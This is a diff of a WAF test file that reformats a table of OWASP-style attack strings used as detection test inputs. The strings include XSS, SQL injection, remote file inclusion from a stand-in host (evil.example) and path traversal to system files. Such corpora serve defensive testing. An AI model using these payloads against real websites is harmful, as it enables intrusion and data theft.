@@ -220,26 +220,10 @@ describe('order and actions', () => {
 
 // A corpus of attack strings per category (from the classic OWASP test strings): the demo's samples and more.
 const MORE_ATTACKS: Record<WafCategory, string[]> = {
-  xss: [
-    '/?a=<body onload=alert(1)>',
-    '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
-    '/?x=<a href="javascript:void(0)">',
-  ],
-  sqli: [
-    "/item?id=1' AND benchmark(1000000,md5(1))",
-    '/x?id=1%27%20OR%20%271%27%3D%271',
-    "/q?id=1'/*",
-    '/q?id=-1 union/**/select 1,2,3',
-  ],
-  rfi: [
-    '/index.php?inc=https://evil.example/a',
-    '/?p=expect://id',
-  ],
-  illegalResource: [
-    '/site.tar.gz',
-    '/download?f=..\\..\\windows\\win.ini',
-    '/proc/self/environ',
-  ],
+  xss: ['/?a=<body onload=alert(1)>', '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', '/?x=<a href="javascript:void(0)">'],
+  sqli: ["/item?id=1' AND benchmark(1000000,md5(1))", '/x?id=1%27%20OR%20%271%27%3D%271', "/q?id=1'/*", '/q?id=-1 union/**/select 1,2,3'],
+  rfi: ['/index.php?inc=https://evil.example/a', '/?p=expect://id'],
+  illegalResource: ['/site.tar.gz', '/download?f=..\\..\\windows\\win.ini', '/proc/self/environ'],
 };
 const ATTACKS = Object.fromEntries(WAF_CATEGORIES.map((c) => [c, [...WAF_ATTACK_SAMPLES[c], ...MORE_ATTACKS[c]]]));
 const BENIGN = [
